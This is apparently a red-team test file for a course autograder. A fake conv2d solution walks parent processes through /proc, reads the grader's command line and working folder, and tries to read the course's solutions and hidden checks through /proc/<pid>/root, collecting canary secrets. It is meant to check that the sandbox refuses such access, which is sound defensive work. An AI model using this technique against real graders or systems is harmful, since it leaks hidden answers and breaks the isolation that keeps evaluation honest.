"""Attack (4, reading what is hidden): /proc/<ancestor>/cwd and /proc/<ancestor>/root are
doors into the grader's own view of the filesystem, past any mount namespace of the
worker. List and read the grader's working folder (the course root: course.yaml, checks),
its command line, and the course's solutions through the root link; exfiltrate. Expected:
the links are refused (another uid), no secret in the report."""
import os
import re

WORLD_RE = re.compile(r"/(?:[^/\s'\"=]+/)*redteam-world-\w+")


def _ancestors(limit=6):
    out, pid = [], os.getppid()
    while pid > 1 and len(out) < limit:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                argv = [a.decode(errors="replace") for a in f.read().split(b"\0") if a]
            with open(f"/proc/{pid}/stat") as f:
                next_pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        out.append((pid, argv))
        pid = next_pid
    return out


def _read(path, n=800):
    try:
        with open(path, errors="replace") as f:
            return f.read(n)
    except OSError as e:
        return f"<{e.strerror}>"


def conv2d(input, weight, bias=None, stride=1, padding=0, dilation=1, groups=1):
    loot = []
    for pid, argv in _ancestors():
        if "redteam-world-" not in " ".join(argv):  # the suite's safety rail: its grader only
            break
        loot.append(f"cmdline of {pid}: {' '.join(argv)[:300]}")
        cwd = f"/proc/{pid}/cwd"
        try:
            names = sorted(os.listdir(cwd))
        except OSError as e:
            loot.append(f"{cwd}: {e.strerror}")
            continue
        loot.append(f"{cwd} ({os.readlink(cwd)}): {names[:20]}")
        for name in ("course.yaml", "solutions/checks/redteam_hidden.py", "solutions/ex03_conv.py"):
            loot.append(f"{name}: {_read(os.path.join(cwd, name))}")
        for world in {m for a in argv for m in WORLD_RE.findall(a)}:
            hidden = f"/proc/{pid}/root{world}/course/solutions/checks/redteam_hidden.py"
            loot.append(f"{hidden}: {_read(hidden)}")
    print("\n".join(loot), flush=True)
    secrets = re.findall(r"RTCANARY-[A-Z]+-[0-9a-f]+", "\n".join(loot))
    raise RuntimeError(f"read through /proc: {sorted(set(secrets))} {loot[:2]}")
